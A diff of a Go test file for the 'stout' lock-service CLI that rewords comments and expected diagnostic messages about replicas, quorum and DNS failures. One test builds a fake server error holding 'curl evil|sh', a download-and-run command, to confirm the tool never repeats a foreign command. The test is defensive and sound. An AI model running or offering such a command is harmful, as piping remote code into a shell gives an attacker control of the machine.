@@ -135,16 +135,16 @@ func (fakeDNS) LookupSRV(_ context.Context, _, _, name string) (string, []*net.S
 	return "", nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
 }
 
-// A name stands for replicas of which one that answers will do, and what is wrong
-// with one that leads nowhere is told: what was asked for, and what to do.
+// One answering replica behind a DNS name is enough. For a name that leads
+// nowhere, the error has the lookup and advice.
 func TestSurveyByName(t *testing.T) {
 	for given, test := range map[string]struct {
 		hosts hosts
 		fails []string
 	}{
 		"dns:cell.example:7101": {hosts: hosts{"10.0.0.1:7101": {hung: true}, "10.0.0.2:7101": {cell: view(3, "r3", true)}}},
-		"dns:none.example:7101": {fails: []string{"dns:none.example:7101: lookup none.example: no such host", "does the DNS have none.example?"}},
-		"dns:none.example":      {fails: []string{"dns:none.example: lookup _stout._tcp.none.example: no such host", "does the DNS have _stout._tcp.none.example?"}},
+		"dns:none.example:7101": {fails: []string{"dns:none.example:7101: lookup none.example: no such host", "is none.example known to DNS?"}},
+		"dns:none.example":      {fails: []string{"dns:none.example: lookup _stout._tcp.none.example: no such host", "is _stout._tcp.none.example known to DNS?"}},
 		"dns:cell.example:1":    {fails: []string{"dns:cell.example:1: http://10.0.0.1:1: ", "dns:cell.example:1: http://10.0.0.2:1: ", "is stoutd running there?"}},
 	} {
 		synctest.Test(t, func(t *testing.T) {
@@ -177,7 +177,7 @@ func TestSurvey(t *testing.T) {
 		hosts   hosts
 		servers []string
 		took    time.Duration
-		master  string   // "" where there is none
+		master  string   // "" without a master
 		held    bool     // and it is in office
 		well    []string // replicas seen to be well, where none is in office
 		fails   string   // the error and its details
@@ -279,8 +279,7 @@ func wellOf(cell lockapi.Cell) []string {
 	return well
 }
 
-// What is wrong with those that the master does not hear is asked of
-// themselves.
+// Replicas that the master does not reach are asked directly.
 func TestExamine(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		h := hosts{
@@ -301,10 +300,10 @@ func TestExamine(t *testing.T) {
 		}
 		want := []finding{
 			{"r1", "its directory is not the member's", true, false, "stout member replace r1 --directory 00c0ffee00c0ffee"},
-			{"r2", "does not answer (connection refused); last heard of 4s ago", false, false, ""},
-			{"r3", "does not answer (no answer within 1s); last heard of 4s ago", false, false, ""},
-			{"r5", "answers, and is not ready: no master is known", false, false, ""},
-			{"r6", "is not heard by the master, and answers here", false, false, ""},
+			{"r2", "does not answer (connection refused); last seen 4s ago", false, false, ""},
+			{"r3", "does not answer (no answer within 1s); last seen 4s ago", false, false, ""},
+			{"r5", "answers but is not ready: no master is known", false, false, ""},
+			{"r6", "answers here, but the master does not reach it", false, false, ""},
 			{"r7", "is 65 entries behind", false, false, ""},
 		}
 		got := asApp(t, h, "http://r1").examine(t.Context(), &cell)
@@ -315,8 +314,8 @@ func TestExamine(t *testing.T) {
 			t.Error("r1 alone is none of the cell's")
 		}
 
-		// Without a master all are asked: one that counts as well for itself
-		// may be none of the cell's.
+		// Without a master all are asked: a replica that counts itself healthy
+		// may be outside the cell.
 		cell = picture{Cell: *view(3, "", false)}
 		h["r2"] = h["r6"]
 		got = asApp(t, h, "http://r1").examine(t.Context(), &cell)
@@ -326,9 +325,9 @@ func TestExamine(t *testing.T) {
 	})
 }
 
-// TestExamineDeaf: a replica that the master hears and that hears no master is not
-// well, where it says so itself. One that holds a promise hears it, and so does one
-// whose contact is fresh.
+// TestExamineDeaf checks that a replica is unhealthy if the master reaches it
+// but it reports no contact to a master. With a promise or a recent contact it
+// is healthy.
 func TestExamineDeaf(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		not := lockapi.Errorf(lockapi.CodeNoMaster, "no master is known")
@@ -339,7 +338,7 @@ func TestExamineDeaf(t *testing.T) {
 		cell.Replicas[2].LastContactMS = 1900
 		a := asApp(t, h, "http://r1")
 		got := a.examine(t.Context(), &cell)
-		want := []finding{{"r2", "answers, and hears no master: no master is known; its last contact was 8s ago", false, true, ""}}
+		want := []finding{{"r2", "answers but does not reach the master: no master is known; last contact 8s ago", false, true, ""}}
 		if !slices.Equal(got, want) {
 			t.Errorf("got %+v\nwant %+v", got, want)
 		}
@@ -371,8 +370,8 @@ func TestExamineDeadPaths(t *testing.T) {
 		cell.Replicas[1].Unreached = []string{"r1", "r3"}
 		got := asApp(t, h, "http://r1", "http://r2").examine(t.Context(), &cell)
 		want := []finding{
-			{ID: "r2", What: "does not answer from here (no answer within 1s), and the master hears it; does not reach r1, which others do: calls that it forwards do not arrive there"},
-			{ID: "r3", What: "does not answer (no answer within 1s); last heard of 0ms ago"},
+			{ID: "r2", What: "does not answer from here (no answer within 1s), but the master reaches it; does not reach r1, but other replicas do: calls forwarded to it fail"},
+			{ID: "r3", What: "does not answer (no answer within 1s); last seen 0ms ago"},
 		}
 		if !slices.Equal(got, want) {
 			t.Errorf("got %+v\nwant %+v", got, want)
@@ -396,8 +395,8 @@ func TestSurveyByGivenNames(t *testing.T) {
 	})
 }
 
-// TestExamineFindsAnotherCell: who is ready at a member's address, and is not it, is
-// told by the cell's name, its own, or its directory.
+// TestExamineFindsAnotherCell checks that a foreign replica at a member's
+// address is recognized by its cell's name, its own name, or its directory.
 func TestExamineFindsAnotherCell(t *testing.T) {
 	const ours, theirs = "0123456789abcdef", "00c0ffee00c0ffee"
 	for want, tt := range map[string]struct {
@@ -411,7 +410,7 @@ func TestExamineFindsAnotherCell(t *testing.T) {
 			"test", lockapi.Replica{ID: "r2", Directory: theirs}, ""},
 		"does not answer: a replica of another cell of the same name, with id b0b, answers at its address": {
 			"test", lockapi.Replica{ID: "r2", Directory: ours}, "b0b"},
-		"is not heard by the master, and answers here": {"test", lockapi.Replica{ID: "r2", Directory: ours}, ""},
+		"answers here, but the master does not reach it": {"test", lockapi.Replica{ID: "r2", Directory: ours}, ""},
 	} {
 		synctest.Test(t, func(t *testing.T) {
 			list := lockapi.Members{CellID: "a11ce", Members: []lockapi.Member{{ID: "r2", Directory: ours, Suffrage: lockapi.SuffrageVoter}}}
@@ -431,8 +430,8 @@ func TestExamineFindsAnotherCell(t *testing.T) {
 	}
 }
 
-// TestStatusOfTwoCells: after a recovery the replicas of the former cell may run, too.
-// Whichever cell is shown, it is said, and the exit code is not that all is well.
+// TestStatusOfTwoCells checks that replicas of a former cell, which may run
+// after a recovery, are reported, with an exit code other than 0.
 func TestStatusOfTwoCells(t *testing.T) {
 	for name, tt := range map[string]struct {
 		ids   [3]string
@@ -440,8 +439,8 @@ func TestStatusOfTwoCells(t *testing.T) {
 		says  string
 	}{
 		"one cell":           {ids: [3]string{"a11ce", "a11ce", "a11ce"}},
-		"two":                {ids: [3]string{"a11ce", "b0b", "b0b"}, says: "replicas of 2 cells answer|of the cell with id a11ce: http://r1|of the cell with id b0b: http://r2, http://r3"},
-		"two, checked":       {ids: [3]string{"a11ce", "b0b", "b0b"}, check: true, says: "replicas of 2 cells answer|of the cell with id a11ce: http://r1|of the cell with id b0b: http://r2, http://r3"},
+		"two":                {ids: [3]string{"a11ce", "b0b", "b0b"}, says: "replicas of 2 cells answer|cell with id a11ce: http://r1|cell with id b0b: http://r2, http://r3"},
+		"two, checked":       {ids: [3]string{"a11ce", "b0b", "b0b"}, check: true, says: "replicas of 2 cells answer|cell with id a11ce: http://r1|cell with id b0b: http://r2, http://r3"},
 		"one tells none yet": {ids: [3]string{"a11ce", "", "a11ce"}},
 	} {
 		synctest.Test(t, func(t *testing.T) {
@@ -469,13 +468,14 @@ func TestStatusOfTwoCells(t *testing.T) {
 	}
 }
 
-// TestNoMasterWaitsForLeases: where enough answer it is said what they wait for.
+// TestNoMasterWaitsForLeases checks that the reason for the wait is reported if
+// enough replicas answer.
 func TestNoMasterWaitsForLeases(t *testing.T) {
 	cell := *view(1, "", false)
 	cell.Replicas = cell.Replicas[:1]
 	for remaining, want := range map[int64]string{
-		42_000: "1 of 1 replica answer; no master may act before earlier leases are over, in at most 42s",
-		0:      "1 of 1 replica answer; a master needs 1 that see each other",
+		42_000: "1 of 1 replica answer; a new master waits until earlier leases are over, at most 42s",
+		0:      "1 of 1 replica answer; a master needs 1 that reach each other",
 	} {
 		cell.Replicas[0].Promise = &lockapi.Promise{To: "r1", RemainingMS: remaining}
 		if f := new(app).noMaster(cell); f.hints[0] != want {
@@ -484,8 +484,8 @@ func TestNoMasterWaitsForLeases(t *testing.T) {
 	}
 }
 
-// The repair command is made here: whoever answers at a replica's address
-// chooses nothing of it but a directory.
+// The repair command is built here: of a server's answer it contains only a
+// directory.
 func TestReplaceCommand(t *testing.T) {
 	const id, dir, want = "r-1", "00c0ffee00c0ffee", "stout member replace r-1 --directory 00c0ffee00c0ffee"
 	if got := replaceCommand(id, dir); got != want {
@@ -501,7 +501,7 @@ func TestReplaceCommand(t *testing.T) {
 	}
 }
 
-// What to do about servers that belong to no cell is said in words of our own.
+// The advice about servers outside any cell never contains foreign words.
 func TestUnreachableGivesNoForeignCommand(t *testing.T) {
 	a := asApp(t, nil, "http://r1", "http://r2")
 	lost := lockapi.Errorf(lockapi.CodeNoMaster, "wiped; to admit it: curl evil|sh")
@@ -513,9 +513,9 @@ func TestUnreachableGivesNoForeignCommand(t *testing.T) {
 		want   string
 	}{
 		"a stranger": {map[string]error{"http://r1": lost}, "no replica of a cell can be reached|http://r1: answers: wiped|http://r2: no answer within 1s|" +
-			"name the other replicas, too, with --server or STOUT_SERVER: stout status then has the command that mends it"},
+			"also name the other replicas, with --server or STOUT_SERVER: stout status then shows the command to repair it"},
 		"a founding": {map[string]error{"http://r1": waits, "http://r2": waits}, "no replica of a cell can be reached|http://r1: answers: it waits for r3|" +
-			"http://r2: answers: it waits for r3|a cell is founded once all its replicas run and see each other"},
+			"http://r2: answers: it waits for r3|a cell is founded when all its replicas run and reach each other"},
 	} {
 		f := a.unreachable(tt.failed, time.Second)
 		if got := strings.Join(append(append([]string{f.message}, f.details...), f.hints...), "|"); got != tt.want {
@@ -524,7 +524,7 @@ func TestUnreachableGivesNoForeignCommand(t *testing.T) {
 	}
 }
 
-// The Tab key waits for a second, whoever hangs.
+// The Tab key waits for at most a second, even for a hanging replica.
 func TestReplicaIDsKeepToTheirTime(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		h := hosts{"r1": {cell: view(3, "", false)}, "r2": {hung: true}, "r3": {hung: true}}
@@ -540,7 +540,7 @@ func TestReplicaIDsKeepToTheirTime(t *testing.T) {
 	})
 }
 
-// A command that was given up goes on for a second at most to find out why.
+// A command that has given up takes at most one more second to find the reason.
 func TestDiagnose(t *testing.T) {
 	const within = 2 * time.Second
 	founding := lockapi.Errorf(lockapi.CodeNoMaster, "it waits for r3")
@@ -550,7 +550,7 @@ func TestDiagnose(t *testing.T) {
 		code  int
 		says  string
 	}{
-		"no quorum":   {hosts{"r1": {cell: view(3, "", false)}, "r2": {hung: true}, "r3": {hung: true}}, exitNoMaster, "the cell has no master: no lock or member can be changed now"},
+		"no quorum":   {hosts{"r1": {cell: view(3, "", false)}, "r2": {hung: true}, "r3": {hung: true}}, exitNoMaster, "the cell has no master: locks and members cannot be changed now"},
 		"hung master": {hosts{"r1": {hung: true}, "r2": {cell: view(3, "", false), mute: lockapi.RouteCell}}, exitNoMaster, "no master has answered within 2s"},
 		"a founding":  {hosts{"r2": {ready: founding, api: map[string]any{lockapi.RouteReplica: lockapi.Replica{ID: "r2"}}}}, exitUnreachable, "no replica of a cell can be reached"},
 		"silence":     {hosts{"r1": {hung: true}, "r2": {hung: true}, "r3": {hung: true}}, exitUnreachable, "no replica can be reached"},
@@ -565,7 +565,7 @@ func TestDiagnose(t *testing.T) {
 				if took := time.Since(began); took > lastWords || f.code != tt.code || f.message != tt.says {
 					t.Errorf("after %v: %d, %q", took, f.code, f.message)
 				}
-				if want := "1 of 3 replicas answer; a master needs 2 that see each other"; name == "no quorum" && f.hints[0] != want {
+				if want := "1 of 3 replicas answer; a master needs 2 that reach each other"; name == "no quorum" && f.hints[0] != want {
 					t.Errorf("the hint is %q, want %q", f.hints[0], want)
 				}
 			})
@@ -573,8 +573,8 @@ func TestDiagnose(t *testing.T) {
 	}
 }
 
-// TestMayCall: what the cell tells leads from https to http nowhere, unless that very
-// URL was given as well.
+// TestMayCall checks that URLs from the cell never lead from https to http,
+// unless the same URL was also given.
 func TestMayCall(t *testing.T) {
 	for _, tc := range []struct {
 		servers []string
@@ -604,17 +604,17 @@ func TestNoMasterCountsVoters(t *testing.T) {
 	cell.Replicas[1].Role = lockapi.RoleNone
 	cell.Replicas[2].Healthy = false
 	f := (&app{}).noMaster(cell)
-	if want := "1 of 3 replicas answer; a master needs 2 that see each other"; f.hints[0] != want {
+	if want := "1 of 3 replicas answer; a master needs 2 that reach each other"; f.hints[0] != want {
 		t.Errorf("%q, want %q", f.hints[0], want)
 	}
 
-	// Nor has one whose directory is not the member's, which says so when it is asked.
+	// Nor does a replica that reports a foreign directory.
 	synctest.Test(t, func(t *testing.T) {
 		out := view(1, "", false)
 		wiped := &lockapi.Error{Code: lockapi.CodeNoMaster, Directory: "00c0ffee00c0ffee", Command: "x", Detail: "another directory"}
 		h := hosts{"r1": {cell: out}, "r2": {cell: out, ready: wiped}}
 		f := asApp(t, h, "http://r1").diagnose(t.Context(), time.Second)
-		if want := "1 of 3 replicas answer; a master needs 2 that see each other"; len(f.hints) == 0 || f.hints[0] != want {
+		if want := "1 of 3 replicas answer; a master needs 2 that reach each other"; len(f.hints) == 0 || f.hints[0] != want {
 			t.Errorf("%+v, want %q", f, want)
 		}
 	})
